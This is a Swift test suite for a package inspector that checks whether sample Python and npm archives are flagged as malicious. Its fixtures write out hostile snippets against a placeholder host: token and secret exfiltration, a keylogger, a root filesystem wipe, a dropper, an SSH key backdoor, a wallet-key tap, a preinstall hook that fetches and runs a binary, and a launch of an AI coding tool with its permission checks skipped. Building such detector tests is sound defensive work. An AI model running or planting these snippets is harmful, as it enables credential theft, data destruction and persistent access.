import Foundation
import Testing

@testable import Provenance

/// Kinds of malice, each with something harmless that looks alike. Addresses are of
/// `example.invalid`, and nothing is run.
@Suite("A kind of malice")
struct KindsTests {
    static func inspect(_ files: [(String, String)], name: String) -> PackageInspection {
        let entries = files.map { (name: "x-1/" + $0.0, type: UInt8(0x30), content: $0.1) }
        return InspectionTests.inspector.inspect(ArchiveTests.tar(entries), name: name)
    }

    static let info = ("PKG-INFO", "Name: x\nVersion: 1\n\n")
    static let host = "https://example.invalid"

    static let python: [(String, String)] = [
        ("EXEC-1", "s = 'x'\nexec(s[::-1])\n"),
        ("EXEC-1", "d = [1, 2]\nexec(bytes(x ^ 7 for x in d))\n"),
        (
            "NET-1",
            "import builtins, urllib.request as r\n"
                + "vars(builtins)['ex' 'ec'](r.urlopen('\(host)').read())\n"
        ),
        (
            "CRED-3",
            "import subprocess, requests\nt = subprocess.check_output(['gh', 'auth', 'token'])\n"
                + "requests.post('\(host)', data=t)\n"
        ),
        (
            "CRED-4",
            "import os, requests\np = os.path.expanduser('~/notes')\n"
                + "requests.post('\(host)', data=open(p).read())\n"
        ),
        (
            "CRED-5",
            "import os, requests\nrequests.post('\(host)', data=os.environ.get('AWS_SECRET'))\n"
        ),
        (
            "SPY-1",
            "import keyboard, requests\nkeys = []\nkeyboard.on_release(keys.append)\n"
                + "requests.post('\(host)', data=str(keys))\n"
        ),
        ("WIPE-1", "import os, shutil\nfor d in os.listdir('/'):\n    shutil.rmtree('/' + d)\n"),
        (
            "MINE-1",
            "import subprocess\nsubprocess.Popen(['/tmp/x', '-o', 'stratum+tcp://pool.invalid'])\n"
        ),
        (
            "DROP-1",
            "import subprocess\nd = open('blob', 'rb').read()\n"
                + "open('/tmp/x', 'wb').write(bytes(b ^ 9 for b in d))\n"
                + "subprocess.Popen(['/tmp/x'])\n"
        ),
        (
            "WORM-2",
            "import requests\nopen('.github/workflows/x.yml', 'w').write('on: push')\n"
        ),
        (
            "CRED-5",
            """
            import sys, os, requests
            class F:
                def find_spec(self, name, path, target=None):
                    requests.get('\(host)', params=os.environ['NPM_TOKEN'])
            sys.meta_path.insert(0, F())
            """
        ),
        ("HIDE-1", "x = '" + String(repeating: "\u{E0141}", count: 12) + "'\n"),
    ]

    @Test("is seen in Python", arguments: python)
    func seesPython(rule: String, text: String) {
        let found = Self.inspect([("x/__init__.py", text), Self.info], name: "x-1.tar.gz")
        #expect(found.marks.contains { $0.rule == rule && $0.points >= 60 }, "\(found.marks)")
        #expect(found.answer != .pass)
    }

    static let javascript: [(String, String)] = [
        ("NET-1", "fetch('\(host)').then(r => r.text()).then(t => eval(t));\n"),
        (
            "CRED-3",
            "const cp = require('child_process');\n"
                + "cp.exec('gh auth token', (e, out) => fetch('\(host)', {body: out}));\n"
        ),
        (
            "TAP-1",
            "const w = require('web3');\nw.Key.from = function (secret) {"
                + " fetch('\(host)', {body: secret}); };\n"
        ),
        (
            "CLIP-1",
            "globalThis.fetch = async (a) => { return a.replace(/(bc1|[13])[a-km-zA-HJ-NP-Z]{9}/,"
                + " 'x').replace(/0x[a-fA-F0-9]{40}/, 'y'); };\n"
        ),
        (
            "DROP-1",
            "(function start() {\n  const { writeFileSync } = require('fs');\n"
                + "  const cp = require('child_process');\n"
                + "  writeFileSync('/tmp/x.mjs', Buffer.from('QUFB', 'base64'));\n"
                + "  cp.fork('/tmp/x.mjs');\n})();\n"
        ),
        (
            "AI-1",
            "require('child_process').spawnSync('claude', ['--dangerously-skip-permissions']);\n"
        ),
        (
            "PERS-1",
            "require('fs').appendFileSync('/home/u/.ssh/authorized_keys', 'ssh-rsa A');\n"
        ),
    ]

    @Test("is seen in JavaScript", arguments: javascript)
    func seesJavaScript(rule: String, text: String) {
        let found = Self.inspect(
            [("package.json", #"{"name":"x","version":"1.0.0"}"#), ("i.js", text)],
            name: "x-1.0.0.tgz"
        )
        #expect(found.marks.contains { $0.rule == rule && $0.points >= 60 }, "\(found.marks)")
        #expect(found.answer != .pass)
    }

    static let harmless: [(String, String)] = [
        ("a.py", "import re\nP = [re.compile(r'/dev/tcp/\\d'), re.compile(r'curl .*\\| sh')]\n"),
        ("b.py", "import subprocess\nR = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"),
        ("c.py", "import shutil\ndef clean(p):\n    shutil.rmtree(p)\nclean('build')\n"),
        ("d.py", "import os\nos.chmod('/tmp/x', 0o755)\nopen('x.pth', 'w').write('lib')\n"),
        (
            "x/__main__.py",
            "import keyboard, sys\nkeyboard.on_release(lambda e: sys.stdout.write(e.name))\n"
        ),
        ("e.py", "x = [3, 1][::-1]\nprint(x)\n"),
        ("f.py", "FLAG = '\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}'\n"),
    ]

    @Test("is not seen where there is none", arguments: harmless)
    func leaves(path: String, text: String) {
        let found = Self.inspect([(path, text), Self.info], name: "x-1.tar.gz")
        #expect(found.answer == .pass, "\(found.marks)")
    }

    @Test("a script of a shell that a hook runs, and fetches and starts something, is refused")
    func shell() {
        let script = "#!/bin/sh\ncurl -o /tmp/a \(Self.host)/a\nchmod +x /tmp/a\n/tmp/a\n"
        let manifest = #"{"name":"x","version":"1.0.0","scripts":{"preinstall":"sh ./go.sh"}}"#
        let found = Self.inspect(
            [("package.json", manifest), ("go.sh", script)],
            name: "x-1.0.0.tgz"
        )
        #expect(found.answer == .refuse, "\(found.marks)")
        let plain = Self.inspect(
            [("package.json", #"{"name":"x","version":"1.0.0"}"#), ("go.sh", script)],
            name: "x-1.0.0.tgz"
        )
        #expect(plain.answer == .pass, "\(plain.marks)")
    }

    /// All that is seen in the texts of these suites, a line each. A change in speed must change
    /// nothing here; a change in rules is read line by line before it is written down.
    @Test("what is seen is what was written down, no mark less and none more")
    func pinned() throws {
        var lines: [String] = []
        let texts =
            Self.python.map(\.1) + InspectionTests.attacks.map(\.2) + AttackTests.python.map(\.1)
            + Self.harmless.map(\.1) + InspectionTests.tools.map(\.1)
        for (number, text) in texts.enumerated() {
            let found = Self.inspect([("x/__init__.py", text), Self.info], name: "x-1.tar.gz")
            lines.append("\(number) \(found.answer.rawValue) \(found.score)")
            lines += found.marks.map {
                "  \($0.rule) \($0.points) \($0.trigger) \($0.line)"
            }.sorted()
        }
        let file = try #require(
            Bundle.module.url(
                forResource: "marks",
                withExtension: "txt",
                subdirectory: "Fixtures"
            )
        )
        let known = try String(decoding: Data(contentsOf: file), as: UTF8.self)
            .split(separator: "\n").map(String.init)
        #expect(lines == known, "\(lines.joined(separator: "\n"))")
    }
}
